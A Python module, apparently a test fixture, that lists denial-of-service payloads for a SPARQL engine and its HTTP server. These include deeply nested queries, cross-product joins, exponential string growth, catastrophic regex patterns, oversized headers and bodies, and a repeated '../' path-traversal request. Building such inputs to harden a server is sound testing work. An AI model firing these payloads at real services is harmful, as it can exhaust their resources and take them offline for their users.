"""The bombs: queries that end, stall or fill a process that evaluates them, and requests likewise.

From what was tried on the libraries and what is known of other engines. Each comes with the
group of its mechanism; the queries are for a store of some ten thousand triples.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from urllib.parse import quote


@dataclass(frozen=True)
class Bomb:
    """A query that would harm whoever evaluates it."""

    name: str
    group: str
    query: str


@dataclass(frozen=True)
class HttpBomb:
    """A request that would harm whoever reads it."""

    name: str
    path: str
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes | None = None


def _nested(before: str, middle: str, after: str, depth: int) -> str:
    return before * depth + middle + after * depth


def _cross(patterns: int) -> str:
    return " . ".join(f"?s{n} ?p{n} ?o{n}" for n in range(patterns))


def _group(group: str, queries: Mapping[str, str]) -> tuple[Bomb, ...]:
    return tuple(Bomb(name, group, query) for name, query in queries.items())


_ANY = "?s ?p ?o"
_DEEP = 16_384

NESTING = _group(
    "nesting",
    {
        "braces": f"ASK {_nested('{', '', '}', _DEEP)}",
        "parentheses": f"ASK {{ FILTER{_nested('(', '1', ')', _DEEP)} }}",
        "negations": f"ASK {{ FILTER({'!' * _DEEP}true) }}",
        "minus signs": f"ASK {{ FILTER({_nested('-(', '1', ')', _DEEP)} = 1) }}",
        "IF": f"ASK {{ FILTER({_nested('IF(true,', 'true', ',false)', _DEEP)}) }}",
        "COALESCE": f"ASK {{ FILTER({_nested('COALESCE(', '1', ')', _DEEP)}) }}",
        "OPTIONAL in OPTIONAL": f"ASK {_nested('{?s ?p ?o OPTIONAL', '{?s ?p ?o}', '}', _DEEP)}",
        "UNION in UNION": f"ASK {_nested('{{} UNION ', '{}', '}', _DEEP)}",
        "SELECT in SELECT": f"{_nested('SELECT*{', _ANY, '}', _DEEP)}",
        "EXISTS in EXISTS": f"ASK {_nested('{FILTER EXISTS', '{?s ?p ?o}', '}', _DEEP)}",
        "GRAPH in GRAPH": f"ASK {{ {_nested('GRAPH ?g {', _ANY, '}', _DEEP)} }}",
        "MINUS in MINUS": f"ASK {_nested('{?s ?p ?o MINUS', '{?s ?p ?o}', '}', _DEEP)}",
        "blank nodes": f"ASK {{ {_nested('[ ?p ', '1', ']', _DEEP)} ?q 1 }}",
        "lists": f"ASK {{ ?s ?p {_nested('(', '1', ')', _DEEP)} }}",
        "path in parentheses": f"ASK {{ ?s {_nested('(', '<x:p>', ')*', _DEEP)} ?o }}",
        "sums": f"ASK {{ FILTER({'1+' * _DEEP}1 = 2) }}",
        "disjunctions": f"ASK {{ FILTER({'true||' * _DEEP}true) }}",
        "concatenations": f"ASK {{ FILTER({_nested('CONCAT(', '', ')', _DEEP)} = '') }}",
    },
)

PLANNING = _group(
    "planning",
    {
        "600 patterns in a chain": "ASK { "
        + " . ".join(f"?v{n} ?p{n} ?v{n + 1}" for n in range(600))
        + " }",
        "600 patterns in a star": "ASK { "
        + " . ".join(f"?s ?p{n} ?o{n}" for n in range(600))
        + "}",
        "300 unrelated patterns": f"ASK {{ {_cross(300)} }}",
        "5,000 OPTIONAL": f"ASK {{ {'OPTIONAL {?s ?p ?o} ' * 5_000} }}",
        "50,000 UNION": f"ASK {{ {{}} {'UNION {?s ?p ?o} ' * 50_000} }}",
        "5,000 MINUS": f"ASK {{ ?s ?p ?o {'MINUS {?a ?b ?c} ' * 5_000} }}",
        "5,000 BIND": "ASK { " + " ".join(f"BIND({n} AS ?v{n})" for n in range(5_000)) + " }",
        "a list of 4,096 items": f"ASK {{ ?s ?p ({'1 ' * 4_096}) }}",
        "a path of 4,096 steps": f"ASK {{ ?s {'/'.join(['<x:p>'] * 4_096)} ?o }}",
        "VALUES with 8,000,000 rows": f"SELECT * {{ VALUES ?v {{ {'1 ' * 8_000_000} }} }}",
        "IN with 500,000 items": f"ASK {{ ?s ?p ?o FILTER(?o IN ({'1,' * 500_000}1)) }}",
    },
)

_UNEQUAL = "FILTER(?s0 = ?s3 && ?s0 != ?s3)"

CROSS = _group(
    "cross product",
    {
        "count": f"SELECT (COUNT(*) AS ?n) {{ {_cross(6)} }}",
        "filter that nothing passes": f"SELECT * {{ {_cross(4)} {_UNEQUAL} }}",
        "sorted": f"SELECT * {{ {_cross(3)} }} ORDER BY ?o0 ?o1",
        "sorted by a random number": f"SELECT * {{ {_cross(3)} }} ORDER BY RAND()",
        "sorted, one row": f"SELECT * {{ {_cross(3)} }} ORDER BY DESC(?o2) LIMIT 1",
        "distinct": f"SELECT DISTINCT * {{ {_cross(3)} }} OFFSET 900000000",
        "reduced, far offset": f"SELECT REDUCED * {{ {_cross(3)} }} OFFSET 900000000",
        "grouped by all": f"SELECT ?s0 ?s1 (COUNT(*) AS ?n) {{ {_cross(3)} }} GROUP BY ?s0 ?s1",
        "count of distinct": f"SELECT (COUNT(DISTINCT ?o1) AS ?n) {{ {_cross(3)} }}",
        "one long text": f"SELECT (GROUP_CONCAT(STR(?o1)) AS ?t) {{ {_cross(2)} }}",
        "sum": f"SELECT (SUM(STRLEN(STR(?o0)) * STRLEN(STR(?o1))) AS ?n) {{ {_cross(2)} }}",
        "range join": f"SELECT (COUNT(*) AS ?n) {{ {_cross(2)} FILTER(STR(?o0) < STR(?o1)) }}",
        "EXISTS over it": f"SELECT * {{ {_ANY} FILTER EXISTS {{ {_cross(3)} FILTER(?o1=?s) }} }}",
        "NOT EXISTS over it": f"ASK {{ {_cross(3)} FILTER NOT EXISTS {{ {_cross(4)} }} }}",
        "OPTIONAL over it": f"SELECT (COUNT(*) AS ?n) {{ {_ANY} OPTIONAL {{ {_cross(3)} }} }}",
        "MINUS over it": f"SELECT (COUNT(*) AS ?n) {{ {_cross(3)} MINUS {{ ?s0 ?p1 ?o2 }} }}",
        "UNION of them": f"SELECT (COUNT(*) AS ?n) {{ {{ {_cross(3)} }} UNION {{ {_cross(4)} }} }}",
        "nested subqueries": "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"{{ SELECT ?s{n} {{ ?s{n} ?p{n} ?o{n} }} }}" for n in range(5))
        + " }",
        "GRAPH over it": f"SELECT (COUNT(*) AS ?n) {{ GRAPH ?g {{ {_cross(4)} }} }}",
        "built as a graph": f"CONSTRUCT {{ ?s0 ?p1 [ ?p0 ?o2 ] }} {{ {_cross(3)} }}",
        "described": f"DESCRIBE ?s0 ?s1 ?s2 {{ {_cross(3)} }}",
        "answered in full": f"SELECT * {{ {_cross(4)} }}",
        "values": "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"VALUES ?v{n} {{ {'1 ' * 60} }}" for n in range(8))
        + " }",
        "of aggregates": f"SELECT (MAX(?n) AS ?m) {{ SELECT ?s0 (COUNT(*) AS ?n) {{ {_cross(3)} }} "
        "GROUP BY ?s0 }",
        "hashes": f"SELECT (MAX(SHA512(CONCAT(STR(?o0), STR(?o1)))) AS ?h) {{ {_cross(2)} }}",
        "bound late": f"SELECT * {{ {_cross(4)} BIND(CONCAT(STR(?o0), STR(?o3)) AS ?x) "
        "FILTER(?x = 'none') }",
    },
)

_THERE_AND_BACK = "/".join(["!<x:p>/(!^<x:p>)"] * 5)

PATHS = _group(
    "path",
    {
        "twice in a row": "SELECT * { ?a (!<x:p>)* ?b . ?b ?p ?c . ?c (!<x:p>)* ?d }",
        "all pairs, both ways": "SELECT (COUNT(*) AS ?n) { ?a (!<x:p>|!^<x:p>)+ ?b }",
        "of paths": "SELECT (COUNT(*) AS ?n) { ?a ((!<x:p>)+/(!<x:q>)+)* ?b }",
        "squared": "SELECT (COUNT(*) AS ?n) { ?a (!<x:p>)* ?b . ?c (!<x:p>)* ?d }",
        "optional steps": f"SELECT (COUNT(*) AS ?n) {{ ?a {'/'.join(['(!<x:p>)?'] * 12)} ?b }}",
        "alternatives": f"SELECT (COUNT(*) AS ?n) {{ ?a ({'|'.join(['!<x:p>'] * 40)})* ?b }}",
        "there and back": f"SELECT (COUNT(*) AS ?n) {{ ?a {_THERE_AND_BACK} ?b }}",
        "under NOT EXISTS": "SELECT * { ?a ?p ?b FILTER NOT EXISTS "
        "{ ?b (!<x:p>|!^<x:p>)* <x:y> } }",
    },
)

_GROWN = "REPLACE(" * 28 + "'aa'" + ",'a','aa')" * 28

GROWTH = _group(
    "growth",
    {
        "REPLACE": f"SELECT ({_GROWN} AS ?v) {{}}",
        "CONCAT of itself": "SELECT (STRLEN(?v32) AS ?n) { BIND('aa' AS ?v0) "
        + " ".join(f"BIND(CONCAT(?v{n}, ?v{n}) AS ?v{n + 1})" for n in range(32))
        + " }",
        "REPLACE by the whole": "SELECT (STRLEN(?v5) AS ?n) { BIND('aaaaaaaa' AS ?v0) "
        + " ".join(f"BIND(REPLACE(?v{n}, 'a', ?v{n}) AS ?v{n + 1})" for n in range(5))
        + " }",
        "ENCODE_FOR_URI of itself": "SELECT (STRLEN(?v30) AS ?n) { BIND('%%%%' AS ?v0) "
        + " ".join(f"BIND(ENCODE_FOR_URI(CONCAT(?v{n},?v{n})) AS ?v{n + 1})" for n in range(30))
        + " }",
        "a text for each row": f"SELECT (REPLACE(STR(?o0), '', "
        f"CONCAT(STR(?o1), STR(?o2), STR(?o3))) AS ?v) {{ {_cross(4)} }}",
        "GROUP_CONCAT with a long separator": "SELECT (GROUP_CONCAT(?o0; SEPARATOR='"
        f"{'x' * 10_000}') AS ?t) {{ {_cross(2)} }}",
        "pattern that counts": "SELECT * { ?s ?p ?o FILTER REGEX('"
        + "a" * 1_000
        + "', '((((a{1,30}){1,30}){1,30}){1,30}){1,30}') }",
        "pattern per row": f"SELECT (COUNT(*) AS ?n) {{ {_cross(2)} "
        "FILTER REGEX(STR(?o0), CONCAT('(', STR(?p1), '|.*){0,50}')) }",
    },
)

BOMBS = (*NESTING, *PLANNING, *CROSS, *PATHS, *GROWTH)

_FORM = {"Content-Type": "application/x-www-form-urlencoded"}

HTTP_BOMBS = (
    HttpBomb("50,000 media types", "/", headers={"Accept": "text/html;q=0.1," * 50_000}),
    HttpBomb("4,000 media types", "/sparql?query=ASK{}", headers={"Accept": "a/b;q=0.1," * 400}),
    HttpBomb("700 languages", "/", headers={"Accept-Language": "xx-yy;q=0.1," * 600}),
    HttpBomb("many codings", "/", headers={"Accept-Encoding": "gzip;q=0.001, " * 500}),
    HttpBomb("many entity tags", "/sparql?query=ASK{}", headers={"If-None-Match": '"a", ' * 1_500}),
    HttpBomb("many ranges", "/downloads/klynge.nq", headers={"Range": "bytes=" + "0-9," * 1_500}),
    HttpBomb("many addresses", "/", headers={"X-Forwarded-For": "1.2.3.4, " * 800}),
    HttpBomb("many parameters", "/sparql?" + "&".join(f"a{n}=1" for n in range(5_000))),
    HttpBomb("many fields", "/sparql", "POST", _FORM, b"&".join([b"a=1"] * 16_000)),
    HttpBomb("many separators", "/sparql", "POST", _FORM, b"&" * 65_000),
    HttpBomb("half escapes", "/sparql", "POST", _FORM, b"query=" + b"%" * 65_000),
    HttpBomb("deep address", "/id/" + "a/" * 4_000),
    HttpBomb("escaped address", "/data/" + quote("æ" * 2_000) + ".ttl"),
    HttpBomb("dots in an address", "/downloads/" + "../" * 2_000 + "klynge.nq"),
    HttpBomb("deep JSON", "/sparql", "POST", {"Content-Type": "application/json"}, b"[" * 65_000),
    HttpBomb(
        "packed body",
        "/sparql",
        "POST",
        {"Content-Type": "application/sparql-query", "Content-Encoding": "gzip"},
        b"\x1f\x8b\x08" + b"\0" * 60_000,
    ),
)
